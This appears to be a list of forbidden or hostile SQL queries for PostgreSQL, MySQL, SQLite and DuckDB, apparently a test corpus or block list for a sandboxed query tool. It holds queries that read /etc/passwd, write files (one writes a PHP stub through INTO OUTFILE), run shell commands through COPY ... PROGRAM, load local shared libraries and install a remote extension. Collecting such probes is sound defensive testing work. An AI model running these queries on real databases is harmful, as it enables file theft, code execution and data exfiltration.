COPY customers TO '/tmp/confidant_pwned.csv'
COPY customers FROM '/etc/passwd'
COPY (SELECT name FROM customers) TO '/tmp/confidant_pwned.csv'
COPY customers TO PROGRAM 'touch /tmp/confidant_pwned'
COPY (SELECT 1) TO PROGRAM 'touch /tmp/confidant_pwned'
COPY customers FROM PROGRAM 'touch /tmp/confidant_pwned'
SELECT pg_read_file('/etc/passwd')
SELECT pg_read_file('postgresql.conf', 0, 1000)
SELECT pg_catalog.pg_read_file('/etc/passwd')
SELECT pg_read_binary_file('/etc/passwd')
SELECT pg_ls_dir('/')
SELECT * FROM pg_ls_dir('/')
SELECT * FROM pg_ls_logdir()
SELECT * FROM pg_ls_waldir()
SELECT pg_stat_file('/etc/passwd')
SELECT lo_import('/etc/passwd')
SELECT lo_export(1, '/tmp/confidant_pwned')
SELECT lo_from_bytea(0, 'x')
SELECT lo_create(0)
SELECT lo_unlink(1)
SELECT lo_put(1, 0, 'x')
SELECT lo_get(1)
SELECT name FROM customers INTO OUTFILE '/tmp/confidant_pwned'
SELECT name INTO OUTFILE '/tmp/confidant_pwned' FROM customers
SELECT name FROM customers INTO DUMPFILE '/tmp/confidant_pwned'
SELECT name INTO @a FROM customers
SELECT name FROM customers LIMIT 1 INTO OUTFILE '/tmp/confidant_pwned' LINES TERMINATED BY '<?php'
SELECT LOAD_FILE('/etc/passwd')
SELECT name, LOAD_FILE(CONCAT('/etc/', 'passwd')) FROM customers
SELECT LOAD_FILE(0x2f6574632f706173737764)
LOAD DATA INFILE '/etc/passwd' INTO TABLE customers
LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE customers
SELECT readfile('/etc/passwd')
SELECT writefile('/tmp/confidant_pwned', 'x')
SELECT edit('x')
SELECT load_extension('/tmp/x.so')
SELECT load_extension('/tmp/x.so', 'main')
SELECT fts3_tokenizer('simple')
SELECT * FROM fsdir('/')
ATTACH DATABASE '/tmp/confidant_pwned.db' AS p
ATTACH '/tmp/confidant_pwned.db' AS p
ATTACH ':memory:' AS p
ATTACH 'dbname=postgres' AS p (TYPE postgres)
DETACH DATABASE main
SELECT * FROM '/etc/passwd'
FROM '/etc/passwd'
FROM 'https://example.com/x.parquet'
SELECT * FROM "/etc/passwd"
SELECT * FROM `/etc/passwd`
SELECT * FROM 's3://bucket/x.csv'
SELECT * FROM 'x.parquet' AS t
SELECT * FROM "customers.csv"
SELECT * FROM read_csv('/etc/passwd')
SELECT * FROM read_csv_auto('/etc/passwd')
SELECT * FROM read_text('/etc/passwd')
SELECT * FROM read_blob('/etc/passwd')
SELECT * FROM read_json('/etc/passwd')
SELECT * FROM read_json_auto('/etc/passwd')
SELECT * FROM read_ndjson('/etc/passwd')
SELECT * FROM read_parquet('/tmp/x.parquet')
SELECT * FROM parquet_scan('/tmp/x.parquet')
SELECT * FROM parquet_metadata('/tmp/x.parquet')
SELECT * FROM sniff_csv('/etc/passwd')
SELECT * FROM glob('/*')
SELECT content FROM read_text('/etc/passwd')
SELECT name FROM customers JOIN read_csv('/etc/passwd') AS f ON true
SELECT name FROM customers WHERE name IN (SELECT content FROM read_text('/etc/passwd'))
SELECT (SELECT content FROM read_text('/etc/passwd'))
SELECT * FROM sqlite_scan('/tmp/x.db', 't')
SELECT * FROM postgres_scan('host=127.0.0.1', 'public', 't')
SELECT * FROM mysql_scan('host=127.0.0.1', 'x', 't')
SELECT * FROM iceberg_scan('s3://x')
SELECT * FROM delta_scan('s3://x')
EXPORT DATABASE '/tmp/confidant_pwned'
IMPORT DATABASE '/tmp/confidant_pwned'
INSTALL httpfs
LOAD httpfs
FORCE INSTALL httpfs
INSTALL 'http://example.com/x.duckdb_extension'
CREATE SECRET s (TYPE s3, KEY_ID 'x')
